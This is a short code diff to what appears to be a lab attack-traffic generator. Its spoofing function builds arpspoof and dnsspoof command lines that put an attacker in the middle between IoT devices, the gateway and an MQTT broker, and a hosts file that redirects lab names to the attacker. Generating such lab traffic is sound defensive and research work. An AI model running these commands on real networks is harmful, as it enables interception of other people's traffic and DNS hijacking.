@@ -175,14 +175,14 @@ def _bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
 
 
 def _spoofing(ctx: LabContext, rng: random.Random) -> list[Step]:
-    a, b = rng.sample(["sensor", "cam", "nas"], 2)
+    a, b = rng.sample(["sensor", "cam", "user"], 2)  # MQTT clients of the broker
     hosts = _write(ctx.workdir / "spoof.hosts", [f"{ctx.ip('attacker')} *.lab", f"{ctx.ip('attacker')} broker.lab"])
     steps = [
-        Step("arpspoof devices <-> gateway", "spoofing",
-             [["arpspoof", "-i", "eth0", "-t", ctx.ip(a), "-t", ctx.ip(b), "-r", ctx.ip("gw")]],
-             weight=1.0, min_seconds=8.0),
+        Step("arpspoof every device <-> gateway", "spoofing",
+             [["arpspoof", "-i", "eth0", *[x for r in ("hub", "cam", "sensor", "nas", "user") for x in ("-t", ctx.ip(r))],
+               "-r", ctx.ip("gw")]], weight=1.0, min_seconds=8.0),
         Step("arpspoof MITM devices <-> MQTT broker", "spoofing",
-             [["arpspoof", "-i", "eth0", "-t", ctx.ip("sensor"), "-t", ctx.ip("cam"), "-r", ctx.ip("hub")]],
+             [["arpspoof", "-i", "eth0", "-t", ctx.ip(a), "-t", ctx.ip(b), "-r", ctx.ip("hub")]],
              weight=1.0, min_seconds=8.0),
         Step("arpspoof + dnsspoof (phone's DNS)", "spoofing",
              [["arpspoof", "-i", "eth0", "-t", ctx.ip("user"), ctx.ip("gw")],
